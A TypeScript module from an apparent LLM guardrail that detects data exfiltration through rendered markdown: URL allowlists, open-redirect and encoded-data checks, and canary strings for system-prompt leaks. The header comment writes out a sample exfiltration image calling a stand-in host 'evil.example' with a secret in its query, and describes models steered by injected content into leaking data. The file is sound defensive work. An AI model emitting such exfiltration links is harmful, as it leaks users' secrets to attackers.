// Output exfiltration checks (OWASP LLM05): a model steered by injected content can leak data through markdown
// that a chat UI renders — an image is fetched with no click (`![x](https://evil.example/?q=<secret>)`), a link or a
// bare URL carries data in its URL, raw HTML can load resources or run script.
// What is a channel (guardrails/README.md, "What counts as an exfiltration channel"): anything fetched with no click
// (images, `<img>`) to a host outside the allowlist; a link, autolink or bare URL outside the allowlist when it can
// carry data (userinfo, a query or fragment longer than navigation or holding encoded data, a marker, an e-mail or
// free text, a redaction marker, host labels or path segments that look like encoded data); script-capable schemes
// always; inline raster images (`data:image/png…`) never, as they request nothing. What counts as a link, an image or
// raw HTML is decided by markdown-it (markdown.ts, markdown-parse.ts, markdown-html.ts); this file holds the URL
// policy (allowlist), the mode and the canary rules.
import type { ExfilPolicy } from './markdown.ts';
import { redactionMarker, regexRule, type Rule } from './rules.ts';

export type ExfiltrationMode = 'off' | 'flag' | 'neutralize' | 'block';

/** Host allowlist entries: `docs.example.com` (exact) or `*.example.com` (any subdomain, not the apex). */
export function hostAllowed(host: string, allowed: readonly string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  for (const raw of allowed) {
    const a = raw.toLowerCase().replace(/\.$/, '');
    if (a.startsWith('*.') ? h.endsWith(a.slice(1)) && h.length > a.length - 1 : h === a) return true;
  }
  return false;
}

const RELATIVE_BASE = 'https://relative.tollgate.invalid/';
/** The data: URLs markdown-it renders as an image (its validateLink): raster images, never SVG (it can hold markup). */
const INLINE_IMAGE = /^data:image\/(?:gif|png|jpeg|webp);/i;

/**
 * How a URL is used: `fetch` — loaded with no click (markdown images, `<img src/srcset>`, and reference definitions an
 * earlier image may use); `link` — followed only when the user clicks (links, autolinks, bare URLs, `<a href>`).
 */
export type UrlUse = 'fetch' | 'link';

/**
 * Whether a URL in output may stay as it is. It is resolved the way a browser resolves it on a page served over
 * https (WHATWG URL: tabs and newlines dropped, backslashes are slashes, `//host` is protocol-relative, entities
 * already decoded by the caller); relative URLs stay (they resolve to the page's own origin), mailto: and tel: stay,
 * http(s) stays when its host is on the allowlist; an inline raster image (`data:image/png|gif|jpeg|webp;…`, the
 * data: URLs markdown-it's validateLink lets through) stays as an image source — it is decoded in place and requests
 * nothing, so it reaches no host — and goes as a link; every other scheme (javascript:, other data:, vbscript:,
 * file:, ftp:) and anything that does not parse goes. Outside the allowlist, a URL that is fetched goes; a link goes
 * only when it can carry data (`urlDataReason`): a plain address such as `https://kubernetes.io/docs/concepts/` stays.
 */
export function urlAllowed(rawUrl: string, allowed: readonly string[], use: UrlUse = 'fetch'): boolean {
  let u: URL;
  try {
    u = new URL(rawUrl.trim().replace(/^<([^>]*)>$/, '$1'), RELATIVE_BASE);
  } catch {
    return false;
  }
  if (u.protocol === 'mailto:' || u.protocol === 'tel:') return true;
  if (u.protocol === 'data:') return use === 'fetch' && INLINE_IMAGE.test(u.href);
  if (u.protocol !== 'http:' && u.protocol !== 'https:') return false;
  // an allowed host (or the page's own origin) whose path, query or fragment names another host may redirect there
  // (open redirects: google.com/url?q=, /redirect?to=, /redirect/https://…): judged as that host is, i.e. as foreign
  if ((u.href.startsWith(RELATIVE_BASE) || hostAllowed(u.hostname, allowed)) && !embedsForeignUrl(u, allowed))
    return true;
  return use === 'link' && urlDataReason(u) === undefined;
}

/** Rounds of percent-decoding an embedded URL is looked for in (a value encoded once, twice, three times). */
const DECODE_ROUNDS = 3;
/** Embedded URL candidates looked at per round; more is judged foreign (fail closed, and a bound on the work). */
const MAX_EMBEDDED = 16;
/**
 * Longest authority (userinfo, host, port) of an embedded URL read; one that does not end within it is judged
 * foreign (fail closed: a long userinfo would otherwise hide the host after it).
 */
const MAX_AUTHORITY = 512;

/**
 * Whether the path, query or fragment of `u` carries an absolute URL to a host outside the allowlist: in the query
 * and fragment `https://host`, `http:host`, or `//host` / `\\host` starting a value (`?to=//evil.example`); in the
 * path (path-style redirectors) `https://host`, `http:host` or `//host` anywhere (`/redirect/https://evil.example`,
 * `/out//evil.example`). Backslashes read as slashes, tabs and newlines dropped (as WHATWG URL does), the text
 * percent-decoded up to DECODE_ROUNDS times (`?to=https%3A%2F%2Fevil.example`). A host is one a browser could reach:
 * it parses as a URL host and has a dot (or is an IPv6 address); an authority longer than MAX_AUTHORITY is foreign.
 * Plain loops, each round linear in the URL; at most MAX_EMBEDDED candidates are parsed per round and part.
 * What it cannot see: a redirect target the allowed host decodes by other means (base64, an opaque short link such as
 * t.co's), or a host named in the path without a scheme or `//` (`/out/evil.example/x`, which reads like any path) —
 * an allowed host that is such a redirector cannot be told from its URL (guardrails/README.md).
 */
export function embedsForeignUrl(u: URL, allowed: readonly string[]): boolean {
  return embedsIn(`${u.search}${u.hash}`, allowed, false) || embedsIn(u.pathname, allowed, true);
}

/** embedsForeignUrl for one part of the URL, over the percent-decoding rounds. */
function embedsIn(part: string, allowed: readonly string[], inPath: boolean): boolean {
  let text = part;
  for (let round = 0; round <= DECODE_ROUNDS && text.length > 1; round++) {
    if (foreignCandidate(stripTabsAndNewlines(text), allowed, inPath)) return true;
    const next = percentDecode(text);
    if (next === text) break;
    text = next;
  }
  return false;
}

const isSlash = (c: string | undefined) => c === '/' || c === '\\';
/** Characters after which `//host` starts a value (a parameter's value, the query, the fragment). */
const VALUE_START = new Set(['?', '#', '&', '=', ';', ',']);

function stripTabsAndNewlines(s: string): string {
  if (!s.includes('\t') && !s.includes('\n') && !s.includes('\r')) return s;
  let out = '';
  for (const c of s) if (c !== '\t' && c !== '\n' && c !== '\r') out += c;
  return out;
}

/**
 * Whether `t` holds an embedded URL to a foreign host (see embedsForeignUrl; `inPath`: any `//` starts one); at most
 * MAX_EMBEDDED are parsed.
 */
function foreignCandidate(t: string, allowed: readonly string[], inPath: boolean): boolean {
  let candidates = 0;
  for (let i = 0; i < t.length; i++) {
    let j = -1;
    const c = t[i] as string;
    if (c === 'h' || c === 'H')
      j = schemeEnd(t, i); // slashes optional: `http:evil.example` from an https page
    else if (isSlash(c) && isSlash(t[i + 1]) && (inPath || valueStart(t, i))) j = i;
    if (j < 0) continue;
    while (isSlash(t[j])) j++;
    let k = j;
    while (k < t.length && k - j < MAX_AUTHORITY && !'/\\?#'.includes(t[k] as string) && (t[k] as string) > ' ') k++;
    if (++candidates > MAX_EMBEDDED || k - j >= MAX_AUTHORITY) return true;
    if (foreignHost(t.slice(j, k), allowed)) return true;
    i = Math.max(i, k - 1);
  }
  return false;
}

/** The index after `http:` or `https:` (any case) at i, or -1. */
function schemeEnd(t: string, i: number): number {
  if (t[i + 4] !== ':' && t[i + 5] !== ':') return -1;
  const head = t.slice(i, i + 6).toLowerCase();
  return head.startsWith('https:') ? i + 6 : head.startsWith('http:') ? i + 5 : -1;
}

/** Whether position i (a `//`) starts a value: after `?` `#` `&` `=` `;` `,`, spaces, or at the start. */
function valueStart(t: string, i: number): boolean {
  let k = i - 1;
  while (k >= 0 && (t[k] as string) <= ' ') k--;
  return k < 0 || VALUE_START.has(t[k] as string);
}

/** An authority (userinfo@host:port) that names a reachable host outside the allowlist. */
function foreignHost(authority: string, allowed: readonly string[]): boolean {
  if (authority === '') return false;
  let host: string;
  try {
    host = new URL(`http://${authority}/`).hostname;
  } catch {
    return false; // not a host a browser could go to
  }
  if (!host.includes('.') && !host.startsWith('[')) return false;
  return !hostAllowed(host, allowed);
}

const UTF8 = new TextDecoder();

/** `%XX` escapes decoded (UTF-8; a byte that is not valid UTF-8 as U+FFFD); a plain loop. */
function percentDecode(s: string): string {
  if (!s.includes('%')) return s;
  let out = '';
  let at = 0;
  for (let i = s.indexOf('%'); i >= 0; i = s.indexOf('%', i)) {
    const bytes: number[] = [];
    let j = i;
    for (let hex = parseHexByte(s, j + 1); s[j] === '%' && hex >= 0; hex = parseHexByte(s, j + 1)) {
      bytes.push(hex);
      j += 3;
    }
    if (bytes.length > 0) {
      out += s.slice(at, i) + UTF8.decode(Uint8Array.from(bytes));
      at = j;
    }
    i = Math.max(j, i + 1);
  }
  return out + s.slice(at);
}

function parseHexByte(s: string, i: number): number {
  const h = (c: number) =>
    c >= 48 && c <= 57 ? c - 48 : c >= 65 && c <= 70 ? c - 55 : c >= 97 && c <= 102 ? c - 87 : -1;
  const a = h(s.charCodeAt(i));
  const b = h(s.charCodeAt(i + 1));
  return a < 0 || b < 0 ? -1 : a * 16 + b;
}

/** Most characters of letters-and-digits ids (5+ each) over host and path a plain address may have. */
const MAX_ID_CHARS = 24;
/** Most characters of URL path and host a plain address may have (beyond that the URL is capacity, not an address). */
const MAX_PLAIN_LENGTH = 200;

/**
 * Why a (parsed, http(s)) URL can carry data to its host, or undefined for a plain address: userinfo, a query or
 * fragment that can carry data (`queryDataReason`), a redaction marker or a canary's marker (the stage runs after
 * redaction), an e-mail address in the path, a host label or path segment that looks like encoded data
 * (`encodedData`), short letters-and-digits ids adding up to MAX_ID_CHARS over host and path, or a path longer than
 * MAX_PLAIN_LENGTH. What stays possible: a few characters of data spelt as words or short ids in a link's path
 * (`https://host/alice/hunter2`), behind a click — see guardrails/README.md.
 */
export function urlDataReason(u: URL): string | undefined {
  if (u.username !== '' || u.password !== '') return 'userinfo';
  const query = queryDataReason(u);
  if (query !== undefined) return query;
  let path: string;
  try {
    path = decodeURIComponent(u.pathname);
  } catch {
    return 'encoded'; // a percent-escape that is not UTF-8: bytes, not words
  }
  if (/redacted|[\x00-\x1f\x7f]/i.test(path)) return 'marker';
  if (path.length + u.hostname.length + u.hash.length > MAX_PLAIN_LENGTH) return 'long';
  // short ids that mix letters and digits, spread over host labels and path segments, add up
  let ids = 0;
  const idLength = (part: string) => {
    let n = 0;
    for (const t of part.split(/[^A-Za-z0-9]+/)) if (t.length >= 5 && /\d/.test(t) && /[A-Za-z]/.test(t)) n += t.length;
    return n;
  };
  for (const label of u.hostname.split('.')) {
    if (encodedData(label)) return 'host';
    ids += idLength(label);
  }
  for (const seg of path.split('/')) {
    if (/[^@]@[A-Za-z0-9-]+\./.test(seg) || encodedData(seg)) return 'path'; // an e-mail address; not `@scope`
    ids += idLength(seg);
  }
  return ids >= MAX_ID_CHARS ? 'ids' : undefined;
}

/**
 * Most characters of query and fragment together that navigation parameters take (`?tab=readme`, `?v=2`,
 * `?page=3&sort=asc`, `#define-container-environment-variables`): beyond that, the query is capacity.
 */
export const MAX_NAVIGATION_LENGTH = 40;
/** Words (split by spaces, `+` or `%20`) in one value from which a query or fragment reads as free text. */
const FREE_TEXT_WORDS = 4;
/** The artifact of a package index: a file name with an archive or package extension. */
const ARTIFACT = /\.(?:tgz|tar\.gz|tar\.bz2|tar\.xz|zip|whl|jar|gem|crate|nupkg|deb|rpm|apk)$/i;
/** A fragment that is the artifact's digest, as package indexes write it (PEP 503 `#sha256=…`, yarn's `#<sha1>`). */
const ARTIFACT_DIGEST =
  /^#(?:(?:sha1|sha224|sha256|sha384|sha512|md5)=)?(?:[0-9a-f]{32}|[0-9a-f]{40}|[0-9a-f]{64}|[0-9a-f]{128})$/i;

/** A fragment that is a heading's anchor: words and numbers joined by `-`, `_` or `.`, as long as a path segment. */
const HEADING_ANCHOR = /^#[A-Za-z0-9]+(?:[-_.][A-Za-z0-9]+){0,30}$/;

/**
 * Why the query and fragment of a URL can carry data, or undefined when there are none or they navigate: a query is a
 * channel when it can carry meaningful data — query and fragment together longer than MAX_NAVIGATION_LENGTH, a
 * percent-escape that is not UTF-8, a redaction marker (canaries are replaced by one), an e-mail address, a value that
 * looks like encoded data (`encodedData`: digests, base64, random ids), or free text (FREE_TEXT_WORDS words or more).
 * Short navigation parameters stay (`?tab=readme`, `?v=2`, `?page=3&sort=asc`, `#installation`, `?q=kubectl+logs`):
 * what they can hold is a few characters of words behind a click, the same residual as words in a path. A fragment
 * alone that is a heading anchor (a slug) is judged like a path segment, whatever its length (HEADING_ANCHOR). A package
 * artifact's digest in the fragment (`…/lodash-4.17.21.tgz#<sha1>`, `…/x.whl#sha256=<hex>`) is the index's integrity
 * convention, not a query: it stays when the path names an artifact (residual: one digest's worth, behind a click).
 */
export function queryDataReason(u: URL): string | undefined {
  if (u.search.length <= 1 && u.hash.length <= 1) return undefined;
  if (u.search.length <= 1 && ARTIFACT_DIGEST.test(u.hash) && ARTIFACT.test(u.pathname)) return undefined;
  // a heading anchor (`#define-container-environment-variables-using-configmap-data`) is a slug like a path segment's
  if (u.search.length <= 1 && HEADING_ANCHOR.test(u.hash)) return encodedData(u.hash.slice(1)) ? 'encoded' : undefined;
  const raw = `${u.search.slice(1)}${u.hash}`;
  if (raw.length > MAX_NAVIGATION_LENGTH) return 'query';
  let text: string;
  try {
    text = decodeURIComponent(raw.replace(/\+/g, ' '));
  } catch {
    return 'encoded';
  }
  if (/redacted|[\x00-\x1f\x7f]/i.test(text)) return 'marker';
  if (/[^@\s]@[A-Za-z0-9-]+\./.test(text)) return 'e-mail';
  for (const part of text.split(/[&=#;,/\s]+/)) if (encodedData(part)) return 'encoded';
  for (const value of text.split(/[&=#;]/))
    if (value.split(/\s+/).filter((w) => /[A-Za-z]/.test(w)).length >= FREE_TEXT_WORDS) return 'free text';
  return undefined;
}

const transitions = (t: string) => {
  let n = 0;
  for (let i = 1; i < t.length; i++) if (/\d/.test(t[i] as string) !== /\d/.test(t[i - 1] as string)) n++;
  return n;
};

/**
 * A host label or path segment that looks like encoded data rather than words, numbers or an identifier: a hex run
 * of 32+ (a digest, a UUID without its hyphens: 128 bits), or a run of letters and digits that is long (16+ with
 * three letter/digit alternations, or 24+), short and random (10+ mixing upper case, lower case and digits), a
 * number of 24+ digits, or 40+ letters (base64 without a digit). Slugs (`configure-pod-configmap`), versions
 * (`v1.29.3`, `Rust-1.76.0.html`), issue numbers and words pass.
 */
export function encodedData(seg: string): boolean {
  if (/[0-9a-f]{32}/i.test(seg.replace(/-/g, ''))) return true;
  for (const t of seg.split(/[^A-Za-z0-9]+/)) {
    if (t.length < 10) continue;
    const digits = /\d/.test(t);
    const letters = /[A-Za-z]/.test(t);
    if (!letters) {
      if (t.length >= 24) return true;
    } else if (!digits) {
      if (t.length >= 40) return true;
    } else if (t.length >= 24 || (t.length >= 16 && transitions(t) >= 3)) return true;
    else if (/[a-z]/.test(t) && /[A-Z]/.test(t) && transitions(t) >= 2) return true;
  }
  return false;
}

/** The exfiltration stage's policy for a mode (undefined in mode off). The stage itself is markdown.ts. */
export function exfiltrationPolicy(mode: ExfiltrationMode, allowedHosts: readonly string[]): ExfilPolicy | undefined {
  if (mode === 'off') return undefined;
  return { rewrite: mode !== 'flag', urlBad: (url, use) => !urlAllowed(url, allowedHosts, use) };
}

/** Canaries: strings planted in a system prompt; seeing one in output means the prompt leaked. Case-insensitive, on the
 * detection view (its accents, marks, look-alikes and tag characters read as the canary's are: rules.ts regexRule). */
export function canaryRules(canaries: readonly string[]): Rule[] {
  return canaries
    .filter((c) => c.length > 0)
    .map((c) =>
      regexRule({
        name: 'canary',
        kind: 'canary',
        pattern: `(?i)${c.replace(/[\\^$.|?*+()[\]{}]/g, '\\$&')}`,
        replace: () => redactionMarker('canary'),
      }),
    );
}
